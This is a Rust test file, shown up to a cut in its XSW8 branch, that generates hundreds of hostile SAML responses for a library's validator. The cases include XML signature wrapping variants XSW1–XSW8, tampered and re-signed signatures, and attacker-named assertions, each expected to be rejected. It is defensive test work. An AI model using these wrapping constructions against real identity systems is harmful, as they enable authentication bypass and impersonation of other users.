//! Generated attack corpus (SPEC section 4): hundreds of hostile variants of the xmlsec1-signed
//! fixtures, each with the one reason code the documented check order must give.
//!
//! Every case is `(class, name, bytes, settings, expected)`. The rejection cases must all be
//! refused with exactly the expected reason, none may be accepted or panic; the accept cases
//! (both sides of every boundary, and the "read the full text" cases) must be accepted with the
//! expected identity. All mismatches are printed at once. `tests/suite/ATTACKS.md` lists the
//! classes; `FEDBRIDGE_ATTACKS_TABLE=1 cargo test --test suite attacks -- --nocapture` prints
//! the full case table; `FEDBRIDGE_ATTACKS_DUMP=<dir>` writes every generated document there.
//!
//! The validator's check order, which decides the expected code whenever an input breaks
//! several rules at once:
//! input/parse -> root/version/ID -> duplicate IDs -> Status -> Response signature -> one
//! assertion -> decrypt -> Assertion signature -> signature_missing -> Issuer -> Destination ->
//! Subject -> SubjectConfirmation -> Conditions -> AuthnStatement -> attributes -> InResponseTo
//! -> replay. Inside one signature: Signature children -> SignedInfo structure -> algorithms ->
//! transforms -> Reference URI -> canonicalization -> digest -> signature value.
//!
//! Everything is built in Rust (string surgery, re-signing with the `openssl` crate), so nothing
//! is skipped; only the extra cross-check signed by `xmlsec1` itself is skipped, loudly, when
//! that tool is missing.

use std::collections::BTreeMap;
use std::panic::{AssertUnwindSafe, catch_unwind};

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD as B64;
use fedbridge::saml::xml::c14n::{Mode, canonicalize};
use fedbridge::saml::xml::{self as fxml, Element};
use fedbridge::saml::{
    DecryptionKey, Expected, MemoryLedger, Rejection, RejectionReason as R, SpSettings, TrustedIdp,
    VerifiedAssertion, validate_response,
};
use openssl::ec::{EcGroup, EcKey};
use openssl::ecdsa::EcdsaSig;
use openssl::hash::{MessageDigest, hash};
use openssl::nid::Nid;
use openssl::pkey::{PKey, Private, Public};
use openssl::pkey_ctx::PkeyCtx;
use openssl::rsa::Padding;
use openssl::sign::Signer;
use openssl::symm::{Cipher, encrypt, encrypt_aead};
use openssl::x509::X509;
use time::{Duration, OffsetDateTime};

use crate::support::*;

// ---------------------------------------------------------------------------------------------
// Constants of the fixtures
// ---------------------------------------------------------------------------------------------

const DECL: &str = "<?xml version=\"1.0\"?>\n";
const DSIG: &str = "http://www.w3.org/2000/09/xmldsig#";
const EVIL_NAME: &str = "admin@example.test";
const EVIL_ID: &str = "_evil-assertion";
const EVIL_RESP_ID: &str = "_evil-response";
const EVIL_URL: &str = "https://evil.example.test/acs";

const ENVELOPED_T: &str =
    r#"<ds:Transform Algorithm="http://www.w3.org/2000/09/xmldsig#enveloped-signature"/>"#;
const EXC_T: &str = r#"<ds:Transform Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/>"#;
const RSA_SHA256_M: &str =
    r#"<ds:SignatureMethod Algorithm="http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"/>"#;
const EXC_C14N_M: &str =
    r#"<ds:CanonicalizationMethod Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/>"#;
const SHA256_D: &str = r#"<ds:DigestMethod Algorithm="http://www.w3.org/2001/04/xmlenc#sha256"/>"#;
const SUCCESS: &str = "urn:oasis:names:tc:SAML:2.0:status:Success";

// Times of the fixtures and the default skew (180 s).
const NOT_BEFORE_MINUS_SKEW: &str = "2026-01-15T09:56:30Z";
const NOT_BEFORE_MINUS_SKEW_MINUS_1: &str = "2026-01-15T09:56:29Z";
const NOT_ON_OR_AFTER_PLUS_SKEW: &str = "2026-01-15T10:08:00Z";
const NOT_ON_OR_AFTER_PLUS_SKEW_MINUS_1: &str = "2026-01-15T10:07:59Z";

// ---------------------------------------------------------------------------------------------
// Cases and how they run
// ---------------------------------------------------------------------------------------------

/// Settings, ledger and clock of one validation.
#[derive(Clone)]
struct Env {
    sp: SpSettings,
    idp: TrustedIdp,
    requests: Vec<String>,
    now: OffsetDateTime,
    /// Documents validated first with the same ledger (each must be accepted): replay set-up.
    prior: Vec<Vec<u8>>,
}

enum Expect {
    Reject(R, Option<&'static str>),
    Accept {
        /// `None`: the Subject has no NameID (allowed with `name_id_required` off).
        name_id: Option<String>,
        attribute: Option<(&'static str, Vec<String>)>,
    },
}

struct Case {
    class: &'static str,
    name: String,
    xml: Vec<u8>,
    env: Env,
    expect: Expect,
}

struct Corpus {
    base: Env,
    cases: Vec<Case>,
    /// Files the cases point at, kept until the corpus has run.
    files: Vec<tempfile::TempDir>,
}

impl Corpus {
    fn new() -> Self {
        let (sp, idp) = xmlsec_settings();
        let base = Env {
            sp,
            idp,
            requests: vec![xmlsec::REQUEST_ID.into()],
            now: at(xmlsec::NOW),
            prior: Vec::new(),
        };
        Corpus {
            base,
            cases: Vec::new(),
            files: Vec::new(),
        }
    }

    /// The standard environment, changed by `f`.
    fn env(&self, f: impl FnOnce(&mut Env)) -> Env {
        let mut env = self.base.clone();
        f(&mut env);
        env
    }

    fn push(
        &mut self,
        class: &'static str,
        name: impl Into<String>,
        xml: impl Into<Vec<u8>>,
        env: Env,
        expect: Expect,
    ) {
        self.cases.push(Case {
            class,
            name: name.into(),
            xml: xml.into(),
            env,
            expect,
        });
    }

    /// A rejection case in the standard environment.
    fn reject(
        &mut self,
        class: &'static str,
        name: impl Into<String>,
        xml: impl Into<Vec<u8>>,
        reason: R,
    ) {
        let env = self.base.clone();
        self.push(class, name, xml, env, Expect::Reject(reason, None));
    }

    /// A rejection case in a changed environment.
    fn reject_in(
        &mut self,
        class: &'static str,
        name: impl Into<String>,
        xml: impl Into<Vec<u8>>,
        env: Env,
        reason: R,
    ) {
        self.push(class, name, xml, env, Expect::Reject(reason, None));
    }

    /// A rejection whose detail must also name the check that fired (boundary cases where
    /// several checks share one code).
    fn reject_at(
        &mut self,
        class: &'static str,
        name: impl Into<String>,
        xml: impl Into<Vec<u8>>,
        env: Env,
        reason: R,
        detail: &'static str,
    ) {
        self.push(class, name, xml, env, Expect::Reject(reason, Some(detail)));
    }

    /// An accept case: must be accepted with this NameID.
    fn accept(
        &mut self,
        class: &'static str,
        name: impl Into<String>,
        xml: impl Into<Vec<u8>>,
        env: Env,
        name_id: &str,
    ) {
        self.push(
            class,
            name,
            xml,
            env,
            Expect::Accept {
                name_id: Some(name_id.into()),
                attribute: None,
            },
        );
    }

    /// An accept case that also checks the full values of one attribute.
    fn accept_attr(
        &mut self,
        class: &'static str,
        name: impl Into<String>,
        xml: impl Into<Vec<u8>>,
        attribute: &'static str,
        values: &[&str],
    ) {
        let env = self.base.clone();
        self.accept_attr_in(class, name, xml, env, attribute, values);
    }

    /// [`Corpus::accept_attr`] in a changed environment.
    fn accept_attr_in(
        &mut self,
        class: &'static str,
        name: impl Into<String>,
        xml: impl Into<Vec<u8>>,
        env: Env,
        attribute: &'static str,
        values: &[&str],
    ) {
        let name_id = (env.sp.name_id_required).then(|| xmlsec::NAME_ID.to_owned());
        let expect = Expect::Accept {
            name_id,
            attribute: Some((attribute, values.iter().map(|v| v.to_string()).collect())),
        };
        self.push(class, name, xml, env, expect);
    }
}

type Outcome = Result<Result<VerifiedAssertion, Rejection>, String>;

/// Validates one case under `catch_unwind`; `Err` is a panic or a failed set-up run.
fn run(case: &Case) -> Outcome {
    let env = &case.env;
    let result = catch_unwind(AssertUnwindSafe(|| {
        let mut ledger = MemoryLedger::with_requests(env.requests.iter().cloned());
        for (i, prior) in env.prior.iter().enumerate() {
            if let Err(r) = validate_response(prior, &env.sp, &env.idp, &mut ledger, env.now) {
                return Err(format!("set-up validation {i} was rejected: {r}"));
            }
        }
        Ok(
            validate_response(&case.xml, &env.sp, &env.idp, &mut ledger, env.now)
                .map_err(Rejection::from),
        )
    }));
    match result {
        Ok(outcome) => outcome,
        Err(panic) => {
            let message = panic
                .downcast_ref::<String>()
                .cloned()
                .or_else(|| panic.downcast_ref::<&str>().map(|s| s.to_string()))
                .unwrap_or_default();
            Err(format!("PANIC: {message}"))
        }
    }
}

/// None when the outcome is what the case expects, else a description of the mismatch.
fn judge(case: &Case, outcome: &Outcome) -> Option<String> {
    let got = match outcome {
        Err(e) => return Some(e.clone()),
        Ok(Ok(v)) => format!("ACCEPTED (NameID {:?})", v.name_id()),
        Ok(Err(r)) => format!("rejected {r}"),
    };
    match (&case.expect, outcome) {
        (Expect::Reject(reason, detail), Ok(Err(r))) if r.reason == *reason => match detail {
            Some(d) if !r.detail.contains(d) => {
                Some(format!("expected {reason} naming {d:?}, got {got}"))
            }
            _ => None,
        },
        (Expect::Reject(reason, _), _) => Some(format!("expected {reason}, got {got}")),
        (Expect::Accept { name_id, attribute }, Ok(Ok(v))) => {
            if v.name_id() != name_id.as_deref() {
                return Some(format!(
                    "expected accept with NameID {name_id:?}, got {got}"
                ));
            }
            if let Some((attr, values)) = attribute {
                let seen = v
                    .attributes()
                    .iter()
                    .find(|a| a.name == *attr)
                    .map(|a| a.values.clone());
                if seen.as_ref() != Some(values) {
                    return Some(format!(
                        "expected attribute {attr} = {values:?}, got {seen:?}"
                    ));
                }
            }
            None
        }
        (Expect::Accept { name_id, .. }, _) => Some(format!(
            "expected accept with NameID {name_id:?}, got {got}"
        )),
    }
}

fn expectation(expect: &Expect) -> String {
    match expect {
        Expect::Reject(r, _) => format!("`{r}`"),
        Expect::Accept { name_id, .. } => {
            format!("accept (`{}`)", name_id.as_deref().unwrap_or("no NameID"))
        }
    }
}

#[test]
fn attack_corpus_is_rejected_with_the_expected_reasons() {
    let corpus = build_corpus();
    let mut names = std::collections::HashSet::new();
    for case in &corpus.cases {
        assert!(
            names.insert(case.name.as_str()),
            "duplicate case name {}",
            case.name
        );
    }
    let mut rejections_by_class: BTreeMap<&str, usize> = BTreeMap::new();
    let mut accepts_by_class: BTreeMap<&str, usize> = BTreeMap::new();
    let mut failures = Vec::new();
    for case in &corpus.cases {
        let bucket = match case.expect {
            Expect::Reject(..) => &mut rejections_by_class,
            Expect::Accept { .. } => &mut accepts_by_class,
        };
        *bucket.entry(case.class).or_default() += 1;
        if let Some(problem) = judge(case, &run(case)) {
            failures.push(format!("  [{}] {}: {problem}", case.class, case.name));
        }
    }
    let rejections: usize = rejections_by_class.values().sum();
    let accepts: usize = accepts_by_class.values().sum();
    println!(
        "attack corpus: {rejections} rejection cases, {accepts} accept cases (boundaries / full text)"
    );
    for (class, n) in &rejections_by_class {
        println!(
            "  {class:<24} {n:>4} rejections, {:>3} accepts",
            accepts_by_class.get(class).copied().unwrap_or(0)
        );
    }
    if let Some(dir) = std::env::var_os("FEDBRIDGE_ATTACKS_DUMP") {
        for case in &corpus.cases {
            let path = std::path::Path::new(&dir).join(case.class);
            std::fs::create_dir_all(&path).unwrap();
            std::fs::write(path.join(format!("{}.xml", case.name)), &case.xml).unwrap();
        }
    }
    if std::env::var_os("FEDBRIDGE_ATTACKS_TABLE").is_some() {
        println!("\n| class | case | expected |\n| --- | --- | --- |");
        for case in &corpus.cases {
            println!(
                "| {} | `{}` | {} |",
                case.class,
                case.name,
                expectation(&case.expect)
            );
        }
    }
    assert!(rejections >= 200, "only {rejections} rejection cases");
    assert!(
        failures.is_empty(),
        "{} of {} attack cases did not behave as expected:\n{}",
        failures.len(),
        corpus.cases.len(),
        failures.join("\n")
    );
}

/// Every generated attack document with its case name (the C14N differential of `c14n.rs` runs
/// over them).
pub(crate) fn documents() -> Vec<(String, Vec<u8>)> {
    build_corpus()
        .cases
        .into_iter()
        .map(|case| (case.name, case.xml))
        .collect()
}

// ---------------------------------------------------------------------------------------------
// String surgery on the fixtures
// ---------------------------------------------------------------------------------------------

fn fixture_text(name: &str) -> String {
    String::from_utf8(xmlsec_fixture(name)).unwrap()
}

/// Replaces the first `from` (which must be there).
fn rep(s: &str, from: &str, to: &str) -> String {
    assert!(s.contains(from), "test bug: {from:?} not found");
    s.replacen(from, to, 1)
}

/// Replaces the first `from` at or after the first `anchor`.
fn rep_after(s: &str, anchor: &str, from: &str, to: &str) -> String {
    let start = s
        .find(anchor)
        .unwrap_or_else(|| panic!("test bug: anchor {anchor:?} not found"));
    format!("{}{}", &s[..start], rep(&s[start..], from, to))
}

/// Removes the first element that starts with `open` through the first `close` after it.
fn remove_el(s: &str, open: &str, close: &str) -> String {
    let start = s
        .find(open)
        .unwrap_or_else(|| panic!("test bug: {open:?} not found"));
    let end = start
        + s[start..]
            .find(close)
            .unwrap_or_else(|| panic!("test bug: {close:?} not found"))
        + close.len();
    format!("{}{}", &s[..start], &s[end..])
}

/// The text of the first `<tag>…</tag>` after `anchor`, changed by `f`.
fn edit_text(s: &str, anchor: &str, tag: &str, f: impl FnOnce(&str) -> String) -> String {
    let base = s
        .find(anchor)
        .unwrap_or_else(|| panic!("test bug: anchor {anchor:?} not found"));
    let open = format!("<{tag}>");
    let start = base
        + s[base..]
            .find(&open)
            .unwrap_or_else(|| panic!("test bug: {open} not found"))
        + open.len();
    let end = start + s[start..].find('<').unwrap();
    format!("{}{}{}", &s[..start], f(&s[start..end]), &s[end..])
}

/// Changes one base64 character (the `nth` non-whitespace one) to another.
fn flip_b64(text: &str, nth: usize) -> String {
    let mut seen = 0;
    text.chars()
        .map(|c| {
            if c.is_ascii_whitespace() {
                return c;
            }
            seen += 1;
            if seen == nth + 1 {
                if c == 'A' { 'B' } else { 'A' }
            } else {
                c
            }
        })
        .collect()
}

/// Decodes base64 text, changes the bytes, encodes again.
fn tamper_b64(text: &str, f: impl FnOnce(&mut Vec<u8>)) -> String {
    let clean: String = text.chars().filter(|c| !c.is_ascii_whitespace()).collect();
    let mut bytes = B64.decode(clean).unwrap();
    f(&mut bytes);
    B64.encode(bytes)
}

/// Takes `<open …close>` from the front of `rest`.
fn take(rest: &mut &str, open: &str, close: &str) -> Option<String> {
    if !rest.starts_with(open) {
        return None;
    }
    let end = rest.find(close)? + close.len();
    let piece = rest[..end].to_string();
    *rest = &rest[end..];
    Some(piece)
}

fn id_of(open_tag: &str) -> String {
    let start = open_tag.find(" ID=\"").unwrap() + 5;
    let end = start + open_tag[start..].find('"').unwrap();
    open_tag[start..end].to_string()
}

/// Inserts `inner` as the last child of a `ds:Signature` string.
fn sig_with_inside(sig: &str, inner: &str) -> String {
    let at = sig.rfind("</ds:Signature>").unwrap();
    format!("{}{inner}{}", &sig[..at], &sig[at..])
}

/// A SimpleSAMLphp-shaped fixture cut into its parts (Response children, Assertion children).
#[derive(Clone)]
struct Fx {
    resp_open: String,
    resp_issuer: String,
    resp_sig: Option<String>,
    status: String,
    assertion: String,
    resp_id: String,
    assert_id: String,
    a_open: String,
    a_issuer: String,
    a_sig: Option<String>,
    a_body: String,
}

impl Fx {
    fn load(name: &str) -> Fx {
        Fx::parse(name, &fixture_text(name))
    }

    /// A fixture of another folder, split into its parts like [`Fx::load`].
    fn parse(name: &str, xml: &str) -> Fx {
        let xml = xml.to_owned();
        let mut rest = xml.strip_prefix(DECL).unwrap();
        let resp_open = take(&mut rest, "<samlp:Response ", ">").unwrap();
        let resp_issuer = take(&mut rest, "<saml:Issuer>", "</saml:Issuer>").unwrap();
        let resp_sig = take(&mut rest, "<ds:Signature", "</ds:Signature>");
        let status = take(&mut rest, "<samlp:Status>", "</samlp:Status>").unwrap();
        let assertion = take(&mut rest, "<saml:Assertion ", "</saml:Assertion>").unwrap();
        assert_eq!(rest.trim_end(), "</samlp:Response>", "{name}");
        let mut a = assertion.as_str();
        let a_open = take(&mut a, "<saml:Assertion ", ">").unwrap();
        let a_issuer = take(&mut a, "<saml:Issuer>", "</saml:Issuer>").unwrap();
        let a_sig = take(&mut a, "<ds:Signature", "</ds:Signature>");
        let a_body = a.strip_suffix("</saml:Assertion>").unwrap().to_string();
        let fx = Fx {
            resp_id: id_of(&resp_open),
            assert_id: id_of(&a_open),
            resp_open,
            resp_issuer,
            resp_sig,
            status,
            assertion,
            a_open,
            a_issuer,
            a_sig,
            a_body,
        };
        assert_eq!(
            fx.xml(),
            xml.trim_end(),
            "test bug: {name} does not reassemble"
        );
        fx
    }

    /// The same fixture without the Response signature.
    fn without_response_signature(&self) -> Fx {
        Fx {
            resp_sig: None,
            ..self.clone()
        }
    }

    /// The document as it is.
    fn xml(&self) -> String {
        let sig = self.resp_sig.as_deref().unwrap_or("");
        self.response(
            &self.resp_open,
            &[&self.resp_issuer, sig, &self.status, &self.assertion],
        )
    }

    /// A document with a Response start tag and children.
    fn response(&self, open: &str, children: &[&str]) -> String {
        format!("{DECL}{}", Self::element(open, children))
    }

    /// A Response element (no XML declaration), to nest it.
    fn element(open: &str, children: &[&str]) -> String {
        format!("{open}{}</samlp:Response>", children.concat())
    }

    fn resp_open_with_id(&self, id: &str) -> String {
        rep(
            &self.resp_open,
            &format!("ID=\"{}\"", self.resp_id),
            &format!("ID=\"{id}\""),
        )
    }

    /// An Assertion from this one's parts: `id`, signature `sig`, NameID changed to the
    /// attacker's when `evil`, and `inside` appended as its last children.
    fn assertion_with(&self, id: &str, sig: Option<&str>, evil: bool, inside: &str) -> String {
        let open = rep(
            &self.a_open,
            &format!("ID=\"{}\"", self.assert_id),
            &format!("ID=\"{id}\""),
        );
        let body = if evil {
            rep(
                &self.a_body,
                ">alice@example.test<",
                &format!(">{EVIL_NAME}<"),
            )
        } else {
            self.a_body.clone()
        };
        format!(
            "{open}{}{}{body}{inside}</saml:Assertion>",
            self.a_issuer,
            sig.unwrap_or("")
        )
    }

    /// The original assertion without its signature.
    fn assertion_unsigned(&self) -> String {
        self.assertion_with(&self.assert_id, None, false, "")
    }

    /// The document with the assertion replaced by `assertion`.
    fn with_assertion(&self, assertion: &str) -> String {
        let sig = self.resp_sig.as_deref().unwrap_or("");
        self.response(
            &self.resp_open,
            &[&self.resp_issuer, sig, &self.status, assertion],
        )
    }
}

// ---------------------------------------------------------------------------------------------
// Signing and encrypting in the test (openssl), with fedbridge's own exclusive C14N
// ---------------------------------------------------------------------------------------------

fn private_key(name: &str) -> PKey<Private> {
    PKey::private_key_from_pem(&read(xmlsec_dir().join(format!("keys/{name}.key")))).unwrap()
}

fn certificate(name: &str) -> X509 {
    X509::from_pem(&read(xmlsec_dir().join(format!("keys/{name}.crt")))).unwrap()
}

fn cert_b64(name: &str) -> String {
    B64.encode(certificate(name).to_der().unwrap())
}

enum KeyKind<'a> {
    Rsa(&'a PKey<Private>, MessageDigest),
    /// ECDSA, written as raw r||s of `usize` bytes each.
    Ec(&'a PKey<Private>, MessageDigest, usize),
    Hmac(&'a [u8], MessageDigest),
}

impl KeyKind<'_> {
    fn sign(&self, data: &[u8]) -> Vec<u8> {
        match self {
            KeyKind::Rsa(key, md) => Signer::new(*md, key)
                .unwrap()
                .sign_oneshot_to_vec(data)
                .unwrap(),
            KeyKind::Ec(key, md, half) => {
                let der = Signer::new(*md, key)
                    .unwrap()
                    .sign_oneshot_to_vec(data)
                    .unwrap();
                let sig = EcdsaSig::from_der(&der).unwrap();
                let mut raw = sig.r().to_vec_padded(*half as i32).unwrap();
                raw.extend(sig.s().to_vec_padded(*half as i32).unwrap());
                raw
            }
            KeyKind::Hmac(secret, md) => {
                let key = PKey::hmac(secret).unwrap();
                Signer::new(*md, &key)
                    .unwrap()
                    .sign_oneshot_to_vec(data)
                    .unwrap()
            }
        }
    }
}

fn by_id<'a>(root: Element<'a>, id: &str) -> Element<'a> {
    std::iter::once(root)
        .chain(root.descendants())
        .find(|e| e.attr("ID").as_deref() == Some(id))
        .unwrap_or_else(|| panic!("test bug: no element with ID {id}"))
}

/// Exclusive C14N of the element `id` without its own `ds:Signature`, hashed with `md`.
fn digest_of(xml: &str, id: &str, md: MessageDigest) -> String {
    let doc = fxml::parse(xml.as_bytes(), 1 << 24).unwrap();
    let signed = by_id(doc.root().unwrap(), id);
    let signature = signed.children().find(|c| c.is(DSIG, "Signature"));
    let canonical = canonicalize(&doc, signed, signature, Mode::Exclusive, &[], false).unwrap();
    B64.encode(hash(md, &canonical).unwrap())
}

/// Sets the DigestValue of `id`'s signature to the `md` digest of the document as it is.
fn redigest(xml: &str, id: &str, md: MessageDigest) -> String {
    let value = digest_of(xml, id, md);
    edit_text(xml, &format!("ID=\"{id}\""), "ds:DigestValue", |_| value)
}

/// Recomputes the SignatureValue of `id`'s signature over its SignedInfo as it is.
fn resign_value(xml: &str, id: &str, key: &KeyKind<'_>) -> String {
    let doc = fxml::parse(xml.as_bytes(), 1 << 24).unwrap();
    let signed = by_id(doc.root().unwrap(), id);
    let signature = signed.children().find(|c| c.is(DSIG, "Signature")).unwrap();
    let signed_info = signature.children().next().unwrap();
    let canonical = canonicalize(&doc, signed_info, None, Mode::Exclusive, &[], false).unwrap();
    let value = B64.encode(key.sign(&canonical));
    edit_text(xml, &format!("ID=\"{id}\""), "ds:SignatureValue", |_| value)
}

/// Re-signs the element `id` (SHA-256 digest, then the signature value) with `key`.
fn resign(xml: &str, id: &str, key: &KeyKind<'_>) -> String {
    resign_value(&redigest(xml, id, MessageDigest::sha256()), id, key)
}

/// Re-signs the element `id` with the IdP's real key: a response the IdP itself could send.
fn idp_signed(xml: &str, id: &str) -> String {
    let key = private_key("idp-rsa");
    resign(xml, id, &KeyKind::Rsa(&key, MessageDigest::sha256()))
}

/// Replaces the certificate in the KeyInfo of `id`'s signature.
fn set_keyinfo_cert(xml: &str, id: &str, cert: &str) -> String {
    edit_text(xml, &format!("ID=\"{id}\""), "ds:X509Certificate", |_| {
        cert.to_string()
    })
}

/// Encrypts `plaintext` to the SP certificate like an IdP would (RSA-OAEP-MGF1P key
/// transport, AES-128-CBC or AES-128-GCM content), as a `saml:EncryptedAssertion`.
fn encrypt_to_sp(plaintext: &[u8], gcm: bool) -> String {
    let public: PKey<Public> = certificate("sp-enc").public_key().unwrap();
    let mut session_key = [0u8; 16];
    openssl::rand::rand_bytes(&mut session_key).unwrap();
    let mut ctx = PkeyCtx::new(&public).unwrap();
    ctx.encrypt_init().unwrap();
    ctx.set_rsa_padding(Padding::PKCS1_OAEP).unwrap();
    let mut wrapped = Vec::new();
    ctx.encrypt_to_vec(&session_key, &mut wrapped).unwrap();
    let (algorithm, data) = if gcm {
        let mut iv = [0u8; 12];
        openssl::rand::rand_bytes(&mut iv).unwrap();
        let mut tag = [0u8; 16];
        let body = encrypt_aead(
            Cipher::aes_128_gcm(),
            &session_key,
            Some(&iv),
            &[],
            plaintext,
            &mut tag,
        )
        .unwrap();
        (
            "http://www.w3.org/2009/xmlenc11#aes128-gcm",
            [&iv[..], &body, &tag].concat(),
        )
    } else {
        let mut iv = [0u8; 16];
        openssl::rand::rand_bytes(&mut iv).unwrap();
        let body = encrypt(Cipher::aes_128_cbc(), &session_key, Some(&iv), plaintext).unwrap();
        (
            "http://www.w3.org/2001/04/xmlenc#aes128-cbc",
            [&iv[..], &body].concat(),
        )
    };
    format!(
        concat!(
            r#"<saml:EncryptedAssertion><xenc:EncryptedData xmlns:xenc="http://www.w3.org/2001/04/xmlenc#" "#,
            r#"xmlns:ds="http://www.w3.org/2000/09/xmldsig#" Type="http://www.w3.org/2001/04/xmlenc#Element">"#,
            r#"<xenc:EncryptionMethod Algorithm="{}"/><ds:KeyInfo><xenc:EncryptedKey>"#,
            r#"<xenc:EncryptionMethod Algorithm="http://www.w3.org/2001/04/xmlenc#rsa-oaep-mgf1p">"#,
            r#"<ds:DigestMethod Algorithm="http://www.w3.org/2000/09/xmldsig#sha1"/></xenc:EncryptionMethod>"#,
            r#"<xenc:CipherData><xenc:CipherValue>{}</xenc:CipherValue></xenc:CipherData></xenc:EncryptedKey>"#,
            r#"</ds:KeyInfo><xenc:CipherData><xenc:CipherValue>{}</xenc:CipherValue></xenc:CipherData>"#,
            r#"</xenc:EncryptedData></saml:EncryptedAssertion>"#
        ),
        algorithm,
        B64.encode(wrapped),
        B64.encode(data)
    )
}

/// An assertion made self-contained for encryption (declares `saml:` itself, as IdPs do).
fn standalone(assertion: &str) -> String {
    rep(
        assertion,
        "<saml:Assertion ",
        "<saml:Assertion xmlns:saml=\"urn:oasis:names:tc:SAML:2.0:assertion\" ",
    )
}

fn utf16le(text: &str) -> Vec<u8> {
    let mut out = vec![0xFF, 0xFE];
    out.extend(text.encode_utf16().flat_map(u16::to_le_bytes));
    out
}

fn utf16be(text: &str) -> Vec<u8> {
    let mut out = vec![0xFE, 0xFF];
    out.extend(text.encode_utf16().flat_map(u16::to_be_bytes));
    out
}

/// A document body without its XML declaration.
fn body(xml: &str) -> &str {
    xml.strip_prefix(DECL).unwrap_or(xml)
}

// ---------------------------------------------------------------------------------------------
// The corpus
// ---------------------------------------------------------------------------------------------

fn build_corpus() -> Corpus {
    let mut c = Corpus::new();
    xml_signature_wrapping(&mut c);
    other_wrapping(&mut c);
    signature_removed_or_altered(&mut c);
    signed_content_altered(&mut c);
    attacker_keys(&mut c);
    multiple_assertions(&mut c);
    comments_and_processing_instructions(&mut c);
    dtd_and_entities(&mut c);
    duplicate_and_missing_ids(&mut c);
    canonicalization_and_namespaces(&mut c);
    algorithm_downgrade(&mut c);
    transforms_and_references(&mut c);
    input_shape(&mut c);
    login_name_as_sent(&mut c);
    protocol_time(&mut c);
    protocol_checks(&mut c);
    replay(&mut c);
    encrypted(&mut c);
    inclusive_canonicalization(&mut c);
    c
}

/// XSW1–XSW8 (Somorovsky et al., "On Breaking SAML", 2012; the forms of SAML Raider), applied
/// to a Response-signed (R), an Assertion-signed (A) and a doubly signed (B) fixture, and to B
/// with its Response signature stripped (Bs). The attacker's assertion names `admin`.
///
/// Expected, by the check order: while the Response is still signed, its signature is checked
/// first: XSW1 leaves a foreign child inside the Response's Signature (signature_malformed),
/// XSW2 makes the Reference name a Response that is not the one carrying the signature
/// (reference_invalid), and every other XSW changes the signed Response (digest_mismatch).
/// Once no Response signature is left, the document holds two assertions (multiple_assertions:
/// wrapped copies are refused, not ignored). `-same-id` variants keep the original ID on the
/// attacker's copy, so the duplicate-ID check (before any signature) fires.
fn xml_signature_wrapping(c: &mut Corpus) {
    let r = Fx::load("rsa-sha256-response.xml");
    let a = Fx::load("rsa-sha256-assertion.xml");
    let b = Fx::load("rsa-sha256-both.xml");
    let bs = b.without_response_signature();
    for (label, fx, kind) in [
        ("R", &r, 'R'),
        ("A", &a, 'A'),
        ("B", &b, 'B'),
        ("Bs", &bs, 'A'),
    ] {
        for n in 1..=8u8 {
            let expected = match (kind, n) {
                ('R' | 'B', 1) => R::SignatureMalformed,
                ('R' | 'B', 2) => R::ReferenceInvalid,
                ('R', 5 | 6 | 8) => R::MultipleAssertions, // the Response signature was moved away
                ('R' | 'B', _) => R::DigestMismatch,
                _ => R::MultipleAssertions,
            };
            c.reject(
                "xsw",
                format!("xsw{n}-{label}"),
                xsw(fx, n, false),
                expected,
            );
            if label == "A" || label == "R" {
                c.reject(
                    "xsw",
                    format!("xsw{n}-{label}-same-id"),
                    xsw(fx, n, true),
                    R::DuplicateId,
                );
            }
        }
    }
}

/// One XSW variant of `fx`. See [`xml_signature_wrapping`].
fn xsw(fx: &Fx, n: u8, same_id: bool) -> String {
    let evil_id = if same_id {
        fx.assert_id.as_str()
    } else {
        EVIL_ID
    };
    let original = fx.assertion.as_str();
    let original_unsigned = fx.assertion_unsigned();
    let resp_sig = fx.resp_sig.as_deref().unwrap_or("");
    // The signature the assertion-level variants (5, 6, 8) move onto the attacker's assertion:
    // the Assertion's own; for a Response-only signed fixture, the Response's.
    let (moved_sig, kept_resp_sig) = match &fx.a_sig {
        Some(s) => (s.as_str(), resp_sig),
        None => (resp_sig, ""),
    };
    let evil = fx.assertion_with(evil_id, None, true, "");
    let (issuer, status, open) = (
        fx.resp_issuer.as_str(),
        fx.status.as_str(),
        fx.resp_open.as_str(),
    );
    match n {
        // XSW1/XSW2: a new root Response (new ID, attacker's assertion) and the original
        // Response (minus its signature: exactly what its digest covers) inside the Signature
        // (XSW1) or before it (XSW2). Without a Response signature: the whole original
        // Response nested after (1) or before (2) the attacker's assertion.
        1 | 2 => {
            let evil_open = fx.resp_open_with_id(EVIL_RESP_ID);
            if fx.resp_sig.is_some() {
                let inner = Fx::element(open, &[issuer, status, original]);
                if n == 1 {
                    fx.response(
                        &evil_open,
                        &[issuer, &sig_with_inside(resp_sig, &inner), status, &evil],
                    )
                } else {
                    fx.response(&evil_open, &[issuer, &inner, resp_sig, status, &evil])
                }
            } else {
                let inner = body(&fx.xml()).to_string();
                if n == 1 {
                    fx.response(&evil_open, &[issuer, status, &evil, &inner])
                } else {
                    fx.response(&evil_open, &[issuer, &inner, status, &evil])
                }
            }
        }
        // XSW3: the attacker's unsigned assertion before the original.
        3 => fx.response(open, &[issuer, resp_sig, status, &evil, original]),
        // XSW4: the original nested inside the attacker's assertion.
        4 => fx.response(
            open,
            &[
                issuer,
                resp_sig,
                status,
                &fx.assertion_with(evil_id, None, true, original),
            ],
        ),
        // XSW5: the attacker's assertion carries the signature; an unsigned copy of the
        // original (with the referenced ID) at the end of the Response.
        5 => {
            let evil_signed = fx.assertion_with(evil_id, Some(moved_sig), true, "");
            fx.response(
                open,
                &[
                    issuer,
                    kept_resp_sig,
                    status,
                    &evil_signed,
                    &original_unsigned,
                ],
            )
        }
        // XSW6: as XSW5, but the copy of the original sits inside the moved Signature.
        6 => {
            let sig = sig_with_inside(moved_sig, &original_unsigned);
            fx.response(
                open,
                &[
                    issuer,
                    kept_resp_sig,
                    status,
                    &fx.assertion_with(evil_id, Some(&sig), true, ""),
                ],
            )
        }
        // XSW7: the attacker's assertion inside samlp:Extensions, the original in place.
        7 => {
            let extensions = format!("<samlp:Extensions>{evil}</samlp:Extensions>");
            fx.response(open, &[issuer, resp_sig, &extensions, status, original])
        }
        // XSW8: as XSW6, but the copy inside a ds:Object of the moved Signature.
        8 => {
            let sig = sig_with_inside(
                moved_sig,
                &format!("<ds:Object>{original_unsigned}</ds:Object>"),
            );
            fx.response(
                open,
                &[
                    issuer,
                    kept_resp_sig,
                    status,
